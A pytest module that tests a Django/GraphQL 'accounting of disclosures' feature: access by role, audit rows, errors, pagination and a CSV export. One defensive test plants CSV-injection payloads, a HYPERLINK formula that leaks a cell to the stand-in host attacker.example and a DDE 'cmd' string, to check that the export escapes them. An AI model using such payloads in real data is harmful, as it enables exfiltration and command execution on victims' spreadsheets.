"""The accounting of disclosures (Privacy Act): accountingOfDisclosures and its CSV download.
Who may ask (auditors, program managers) and who is refused, what a record's and a person's
accounting holds, purposes and screening references, pagination, typed errors, one audit row
per request, formula-neutral CSV, and a constant number of queries."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.contrib.contenttypes.models import ContentType
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from strawberry.relay import GlobalID

from audit.models import AuditEvent
from backend import models as m
from backend.services.disclosures import (
    PASSENGER_SCREENING,
    TRAVELLER_LOOKUP,
    purpose_of,
    purpose_sql,
    screening_reference,
    screening_reference_sql,
)
from backend.services.lookups import LookupCriteria, traveller_lookup
from permissions.gate import DISCLOSURE_ACCOUNTING
from permissions.matrix import OPERATIONS
from tests.conftest import GraphQL
from tests.factories import (
    IdentifierFactory,
    LeadFactory,
    SightingFactory,
    SubjectFactory,
    TipFactory,
    TipSubjectFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

ACCOUNTING = """
query ($id: ID!, $first: Int, $after: String) {
  accountingOfDisclosures(recordId: $id, first: $first, after: $after) {
    totalCount
    pageInfo { hasNextPage endCursor }
    edges { node {
      recordId recordType concerns disclosedAt
      recipientUsername recipientFullName recipientAgency recipientRole
      lookupId purpose screeningReference
    } }
  }
}
"""
FLIGHT = "BA117 2026-05-01 LHR-JFK"


def gid(record: Any) -> str:
    return str(GlobalID(type(record).__name__, str(record.pk)))


def investigator(username: str, agency: str = "CBP National Targeting Center") -> m.User:
    return UserFactory(
        username=username,
        role=m.Role.INVESTIGATOR,
        agency=agency,
        first_name="Dana",
        last_name=username.title(),
    )


def screening(by: m.User, *records: Any, reference: str = FLIGHT) -> m.TravellerLookup:
    """A lookup made in a passenger-list screening (its criteria carry the flight reference,
    as passenger screening records it) that disclosed ``records``."""
    lookup = m.TravellerLookup.objects.create(
        user=by,
        criteria={"email": "x@example.com", "screening": {"reference": reference}},
        tip_hits=sum(isinstance(r, m.Tip) for r in records),
    )
    m.Disclosure.objects.bulk_create(
        m.Disclosure(
            lookup=lookup,
            user=by,
            content_type=ContentType.objects.get_for_model(type(r)),
            object_id=r.pk,
        )
        for r in records
    )
    return lookup


class Graph:
    """A suspect holding an e-mail, named in a tip in which the e-mail was seen; another
    person and tip nobody asks about."""

    def __init__(self) -> None:
        self.subject = SubjectFactory(full_name="Mallory Suspect")
        self.email = IdentifierFactory(raw_value="mallory@example.com")
        self.subject.identifier_links.create(identifier=self.email)
        self.tip = TipFactory(source_reference="ACC-1")
        SightingFactory(tip=self.tip, identifier=self.email)
        TipSubjectFactory(tip=self.tip, subject=self.subject)
        self.other = SubjectFactory(full_name="Nobody Else")
        other_email = IdentifierFactory(raw_value="nobody@example.com")
        self.other.identifier_links.create(identifier=other_email)
        other_tip = TipFactory(source_reference="ACC-2")
        SightingFactory(tip=other_tip, identifier=other_email)
        TipSubjectFactory(tip=other_tip, subject=self.other)


@pytest.fixture
def graph() -> Graph:
    return Graph()


@pytest.fixture
def disclosed(graph: Graph) -> dict[str, Any]:
    """Alice looks Mallory up by e-mail (tip, person and e-mail disclosed to her); Bob's
    passenger screening discloses the e-mail alone; Carol looks up somebody else."""
    alice, bob, carol = (
        investigator("alice"),
        investigator("bob", "Port Police"),
        investigator("carol"),
    )
    looked = traveller_lookup(by=alice, criteria=LookupCriteria(email="Mallory@Example.com"))
    screened = screening(bob, graph.email)
    traveller_lookup(by=carol, criteria=LookupCriteria(email="nobody@example.com"))
    return {"alice": alice, "bob": bob, "lookup": looked.lookup, "screening": screened}


def nodes(result: dict) -> list[dict]:
    assert "errors" not in result, result
    return [e["node"] for e in result["data"]["accountingOfDisclosures"]["edges"]]


def codes(result: dict) -> list[str]:
    return [e["extensions"]["code"] for e in result.get("errors", [])]


def lookup_gid(lookup: m.TravellerLookup) -> str:
    return str(GlobalID("TravellerLookup", str(lookup.pk)))


# -- who may ask ----------------------------------------------------------------------------


def test_the_rule_is_auditors_and_program_managers() -> None:
    assert OPERATIONS["Query.accountingOfDisclosures"] == {
        m.Role.AUDITOR,
        m.Role.PROGRAM_MANAGER,
    }
    assert DISCLOSURE_ACCOUNTING.roles == OPERATIONS["Query.accountingOfDisclosures"]


def test_auditor_gets_every_disclosure_of_a_tip(gql_as, graph: Graph, disclosed) -> None:
    # when an auditor asks for the tip's accounting
    rows = nodes(gql_as(m.Role.AUDITOR)(ACCOUNTING, {"id": gid(graph.tip)}))
    # then the one disclosure of it is there: to whom, when, through which lookup, why
    assert rows == [
        {
            "recordId": gid(graph.tip),
            "recordType": "Tip",
            "concerns": "RECORD",
            "disclosedAt": rows[0]["disclosedAt"],
            "recipientUsername": "alice",
            "recipientFullName": "Dana Alice",
            "recipientAgency": "CBP National Targeting Center",
            "recipientRole": "INVESTIGATOR",
            "lookupId": lookup_gid(disclosed["lookup"]),
            "purpose": "TRAVELLER_LOOKUP",
            "screeningReference": None,
        }
    ]
    assert rows[0]["disclosedAt"].startswith(disclosed["lookup"].created_at.date().isoformat())


def test_program_manager_gets_the_accounting_of_an_identifier(
    gql_as, graph: Graph, disclosed
) -> None:
    rows = nodes(gql_as(m.Role.PROGRAM_MANAGER)(ACCOUNTING, {"id": gid(graph.email)}))
    # the e-mail went to Alice by her lookup and to Bob by his passenger screening
    assert [(r["recipientUsername"], r["purpose"], r["screeningReference"]) for r in rows] == [
        ("alice", "TRAVELLER_LOOKUP", None),
        ("bob", "PASSENGER_SCREENING", FLIGHT),
    ]
    assert {r["concerns"] for r in rows} == {"RECORD"}
    assert rows[1]["lookupId"] == lookup_gid(disclosed["screening"])
    assert rows[1]["recipientAgency"] == "Port Police"


def test_a_person_s_accounting_includes_their_identifiers_and_tips(
    gql_as, graph: Graph, disclosed
) -> None:
    # when an auditor asks for Mallory's accounting
    rows = nodes(gql_as(m.Role.AUDITOR)(ACCOUNTING, {"id": gid(graph.subject)}))
    # then it lists her own record, the e-mail she holds and the tip naming her, each saying
    # which record it is about, and nothing about anybody else
    found = {(r["recordId"], r["concerns"], r["recipientUsername"]) for r in rows}
    assert found == {
        (gid(graph.subject), "RECORD", "alice"),
        (gid(graph.email), "IDENTIFIER_HELD", "alice"),
        (gid(graph.email), "IDENTIFIER_HELD", "bob"),
        (gid(graph.tip), "TIP_NAMING", "alice"),
    }
    assert len(rows) == 4


def test_a_removed_record_keeps_its_accounting(gql_as, graph: Graph, disclosed) -> None:
    m.Tip.objects.filter(pk=graph.tip.pk).update(removed_at=disclosed["lookup"].created_at)
    rows = nodes(gql_as(m.Role.AUDITOR)(ACCOUNTING, {"id": gid(graph.tip)}))
    assert [r["recipientUsername"] for r in rows] == ["alice"]


@pytest.mark.parametrize(
    "role",
    [
        m.Role.ANALYST,
        m.Role.INVESTIGATOR,
        m.Role.REPORTING_CLIENT,
        m.Role.SYSTEM_ADMINISTRATOR,
    ],
)
def test_other_roles_are_refused_and_audited(gql_as, graph: Graph, disclosed, role) -> None:
    # when another role asks (a partner role's tool sends a registered document)
    result = gql_as(role)(ACCOUNTING, {"id": gid(graph.tip)})
    # then it is refused with FORBIDDEN, nothing of the accounting in the answer
    assert result["data"] is None
    assert codes(result) == ["FORBIDDEN"]
    # and the refusal has its audit row
    row = AuditEvent.objects.filter(kind="OPERATION").order_by("-seq").first()
    assert (row.role, row.outcome, row.error_codes) == (role, "DENIED", ["FORBIDDEN"])
    assert row.records_returned == []


def test_anonymous_is_refused(anonymous_gql: GraphQL, graph: Graph) -> None:
    result = anonymous_gql(ACCOUNTING, {"id": gid(graph.tip)})
    assert codes(result) == ["UNAUTHENTICATED"]


def test_the_audit_row_names_the_records_the_accounting_listed(
    gql_as, graph: Graph, disclosed
) -> None:
    gql_as(m.Role.AUDITOR)(ACCOUNTING, {"id": gid(graph.subject)})
    row = AuditEvent.objects.filter(kind="OPERATION").order_by("-seq").first()
    assert (row.role, row.outcome) == (m.Role.AUDITOR, "ALLOWED")
    assert row.records_returned == sorted(
        [f"Identifier:{graph.email.pk}", f"Subject:{graph.subject.pk}", f"Tip:{graph.tip.pk}"]
    )
    assert row.variables == {"id": gid(graph.subject)}


# -- bad ids --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("record_id", "code"),
    [
        ("not-base64!!", "INVALID_ID"),
        (str(GlobalID("Tip", "abc")), "INVALID_ID"),
        (str(GlobalID("Lead", "1")), "INVALID_ID"),  # leads are never disclosed
        (str(GlobalID("Nothing", "1")), "INVALID_ID"),
        (str(GlobalID("Tip", "987654321")), "NOT_FOUND"),
        (str(GlobalID("Subject", "987654321")), "NOT_FOUND"),
    ],
)
def test_a_bad_or_unknown_id_is_a_typed_error(gql_as, record_id: str, code: str) -> None:
    result = gql_as(m.Role.AUDITOR)(ACCOUNTING, {"id": record_id})
    assert result["data"] is None
    assert codes(result) == [code]
    row = AuditEvent.objects.filter(kind="OPERATION").order_by("-seq").first()
    assert row.outcome == "INVALID"


def test_a_lead_id_is_refused_even_when_the_lead_exists(gql_as) -> None:
    lead = LeadFactory()
    result = gql_as(m.Role.AUDITOR)(ACCOUNTING, {"id": gid(lead)})
    assert codes(result) == ["INVALID_ID"]


def test_a_record_with_no_disclosure_has_an_empty_accounting(gql_as, graph: Graph) -> None:
    result = gql_as(m.Role.AUDITOR)(ACCOUNTING, {"id": gid(graph.tip)})
    assert nodes(result) == []
    assert result["data"]["accountingOfDisclosures"]["totalCount"] == 0


# -- pagination and cost --------------------------------------------------------------------


def test_pages_follow_one_another(gql_as, graph: Graph) -> None:
    # given five lookups by five officers that returned the tip
    for n in range(5):
        screening(investigator(f"officer{n}"), graph.tip, reference=f"FL{n}")
    ask = gql_as(m.Role.AUDITOR)
    # when the auditor reads two at a time
    seen, after = [], None
    while True:
        result = ask(ACCOUNTING, {"id": gid(graph.tip), "first": 2, "after": after})
        page = result["data"]["accountingOfDisclosures"]
        assert page["totalCount"] == 5
        seen += [r["screeningReference"] for r in nodes(result)]
        if not page["pageInfo"]["hasNextPage"]:
            break
        after = page["pageInfo"]["endCursor"]
    # then every disclosure comes once, oldest first
    assert seen == [f"FL{n}" for n in range(5)]


def test_a_page_larger_than_the_limit_is_refused(gql_as, graph: Graph) -> None:
    result = gql_as(m.Role.AUDITOR)(ACCOUNTING, {"id": gid(graph.tip), "first": 10_000})
    assert codes(result) == ["PAGINATION_LIMIT"]


def test_query_count_does_not_grow_with_the_rows(gql_as, graph: Graph) -> None:
    ask = gql_as(m.Role.AUDITOR)
    ask(ACCOUNTING, {"id": gid(graph.subject)})  # warm the content-type cache

    def queries_for(n: int) -> int:
        for i in range(n):
            officer = investigator(f"officer-{n}-{i}", agency=f"Agency {i}")
            screening(officer, graph.tip, graph.subject, graph.email)
        with CaptureQueriesContext(connection) as captured:
            result = ask(ACCOUNTING, {"id": gid(graph.subject), "first": 100})
        assert len(nodes(result)) == m.Disclosure.objects.count()
        return len(captured)

    assert queries_for(2) == queries_for(20)


# -- purpose, from the lookup's criteria ----------------------------------------------------

CRITERIA = [
    # as passenger screening (backend.services.screening) records each traveller's lookup
    (
        {
            "email": "a@example.com",
            "screening": {
                "id": "0b7c4d4e-1f2a-4c1e-9a55-0e0c1f2d3a4b",
                "reference": "BA 0117",
                "traveller": 3,
            },
        },
        PASSENGER_SCREENING,
        "BA 0117",
    ),
    ({"email": "a@example.com"}, TRAVELLER_LOOKUP, None),
    ({"name": "x", "dateOfBirth": "1970-01-01"}, TRAVELLER_LOOKUP, None),
    ({"email": "a@example.com", "screening": {"reference": " BA1 "}}, PASSENGER_SCREENING, "BA1"),
    ({"email": "a@example.com", "screening": "UA 9"}, PASSENGER_SCREENING, "UA 9"),
    ({"email": "a@example.com", "reference": "LH400"}, PASSENGER_SCREENING, "LH400"),
    ({"email": "a@example.com", "reference": 400}, PASSENGER_SCREENING, "400"),
    ({"screening": {"reference": ""}, "reference": "AF1"}, PASSENGER_SCREENING, "AF1"),
    ({"screening": {"id": 7}}, PASSENGER_SCREENING, None),
    ({"screening": True}, PASSENGER_SCREENING, None),
    ({"screening": None}, TRAVELLER_LOOKUP, None),
    ({"screening": False, "reference": ""}, TRAVELLER_LOOKUP, None),
    ({"reference": {"nested": 1}}, TRAVELLER_LOOKUP, None),
]


@pytest.mark.parametrize(("criteria", "purpose", "reference"), CRITERIA)
def test_purpose_and_reference_are_read_alike_in_python_and_sql(
    criteria: dict, purpose: str, reference: str | None
) -> None:
    # given a lookup with these criteria
    lookup = m.TravellerLookup.objects.create(user=investigator("p"), criteria=criteria)
    # then Python and SQL (the statistics) read the same purpose and reference
    assert (purpose_of(criteria), screening_reference(criteria)) == (purpose, reference)
    with connection.cursor() as cursor:
        cursor.execute(
            f"SELECT {purpose_sql('q.criteria')}, {screening_reference_sql('q.criteria')} "
            "FROM backend_travellerlookup q WHERE q.id = %s",
            [lookup.pk],
        )
        assert cursor.fetchone() == (purpose, reference)


# -- the CSV download -----------------------------------------------------------------------


def signed_in(user: m.User | str) -> Client:
    client = Client()
    client.force_login(user if isinstance(user, m.User) else UserFactory(role=user))
    return client


def csv_rows(response) -> list[dict[str, str]]:
    content = (
        b"".join(response.streaming_content) if response.streaming else response.content
    ).decode()
    return list(csv.DictReader(io.StringIO(content)))


def download(client: Client, record_id: str) -> Any:
    return client.get(f"/disclosures/{record_id}.csv")


def last_audit_row() -> AuditEvent:
    return AuditEvent.objects.filter(kind="OPERATION").order_by("-seq").first()


@pytest.mark.parametrize("role", [m.Role.AUDITOR, m.Role.PROGRAM_MANAGER])
def test_csv_holds_the_same_lines_as_the_query(gql_as, graph: Graph, disclosed, role: str) -> None:
    # when the accounting of Mallory is downloaded
    response = download(signed_in(role), gid(graph.subject))
    # then it is a CSV file with the query's lines, in the same order
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv"
    assert (
        f'filename="disclosures-subject-{graph.subject.pk}.csv"'
        in (response["Content-Disposition"])
    )
    lines = csv_rows(response)
    queried = nodes(gql_as(m.Role.AUDITOR)(ACCOUNTING, {"id": gid(graph.subject)}))
    assert [
        (
            r["record_id"],
            r["concerns"],
            r["recipient_username"],
            r["recipient_full_name"],
            r["recipient_agency"],
            r["lookup_id"],
            r["purpose"],
            r["screening_reference"],
        )
        for r in lines
    ] == [
        (
            q["recordId"],
            q["concerns"],
            q["recipientUsername"],
            q["recipientFullName"],
            q["recipientAgency"],
            q["lookupId"],
            q["purpose"],
            q["screeningReference"] or "",
        )
        for q in queried
    ]
    assert {r["record_number"] for r in lines} == {
        str(graph.subject.pk),
        str(graph.email.pk),
        str(graph.tip.pk),
    }


def test_csv_download_writes_one_audit_row_naming_the_records(graph: Graph, disclosed) -> None:
    before = AuditEvent.objects.filter(kind="OPERATION").count()
    response = download(signed_in(m.Role.AUDITOR), gid(graph.email))
    assert response.status_code == 200
    csv_rows(response)
    rows = list(AuditEvent.objects.filter(kind="OPERATION").order_by("seq"))[before:]
    assert [(r.operation_name, r.role, r.outcome) for r in rows] == [
        ("accountingOfDisclosuresCsv", m.Role.AUDITOR, "ALLOWED")
    ]
    assert rows[0].records_returned == [f"Identifier:{graph.email.pk}"]
    assert rows[0].variables == {"recordId": gid(graph.email)}


@pytest.mark.parametrize(
    "role",
    [
        m.Role.ANALYST,
        m.Role.INVESTIGATOR,
        m.Role.REPORTING_CLIENT,
        m.Role.SYSTEM_ADMINISTRATOR,
    ],
)
def test_csv_download_is_refused_to_other_roles_and_audited(
    graph: Graph, disclosed, role: str
) -> None:
    response = download(signed_in(role), gid(graph.tip))
    assert response.status_code == 403
    assert response.json()["code"] == "FORBIDDEN"
    row = last_audit_row()
    assert (row.operation_name, row.role, row.outcome, row.error_codes) == (
        "accountingOfDisclosuresCsv",
        role,
        "DENIED",
        ["FORBIDDEN"],
    )
    assert row.records_returned == []


def test_csv_download_is_refused_to_an_account_that_may_not_act(graph: Graph) -> None:
    lapsed = UserFactory(role=m.Role.AUDITOR, annual_training_at=None)
    response = download(signed_in(lapsed), gid(graph.tip))
    assert response.status_code == 403
    assert last_audit_row().outcome == "DENIED"


def test_csv_download_is_refused_to_nobody(graph: Graph) -> None:
    response = download(Client(), gid(graph.tip))
    assert response.status_code == 401
    assert response.json()["code"] == "UNAUTHENTICATED"
    assert last_audit_row().outcome == "DENIED"


@pytest.mark.parametrize(
    ("record_id", "status", "code"),
    [
        ("not-base64!!", 400, "INVALID_ID"),
        ("a/b", 400, "INVALID_ID"),
        (str(GlobalID("Lead", "1")), 400, "INVALID_ID"),
        (str(GlobalID("Tip", "987654321")), 404, "NOT_FOUND"),
    ],
)
def test_csv_download_of_a_bad_or_unknown_id(record_id: str, status: int, code: str) -> None:
    response = download(signed_in(m.Role.AUDITOR), record_id)
    assert response.status_code == status
    assert response.json()["code"] == code
    row = last_audit_row()
    assert (row.outcome, row.error_codes) == ("INVALID", [code])


def test_csv_download_refuses_other_methods(graph: Graph) -> None:
    client = Client(enforce_csrf_checks=False)
    client.force_login(UserFactory(role=m.Role.AUDITOR))
    response = client.post(f"/disclosures/{gid(graph.tip)}.csv")
    assert response.status_code == 405
    assert last_audit_row().error_codes == ["METHOD_NOT_ALLOWED"]


FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"details")'


def test_csv_neutralises_a_formula_in_a_username_or_agency(graph: Graph) -> None:
    # given an officer whose username and agency were typed as spreadsheet formulas
    officer = UserFactory(
        username="@SUM(1,2)", role=m.Role.INVESTIGATOR, agency=FORMULA, first_name="-2+3"
    )
    screening(officer, graph.tip, reference="+1+cmd|' /C calc'!A0")
    # when the tip's accounting is downloaded
    [line] = csv_rows(download(signed_in(m.Role.AUDITOR), gid(graph.tip)))
    # then each such cell is text, never a formula
    assert line["recipient_username"] == "'@SUM(1,2)"
    assert line["recipient_agency"] == "'" + FORMULA
    assert line["recipient_full_name"].startswith("'-2+3")
    assert line["screening_reference"] == "'+1+cmd|' /C calc'!A0"
    assert not any(value.startswith(("=", "+", "-", "@")) for value in line.values())


def test_csv_query_count_does_not_grow_with_the_rows(graph: Graph) -> None:
    client = signed_in(m.Role.AUDITOR)
    csv_rows(download(client, gid(graph.subject)))  # warm the content-type cache

    def queries_for(n: int) -> int:
        for i in range(n):
            screening(investigator(f"csv-{n}-{i}"), graph.tip, graph.email)
        with CaptureQueriesContext(connection) as captured:
            lines = csv_rows(download(client, gid(graph.subject)))
        assert len(lines) == m.Disclosure.objects.count()
        return len(captured)

    assert queries_for(2) == queries_for(20)
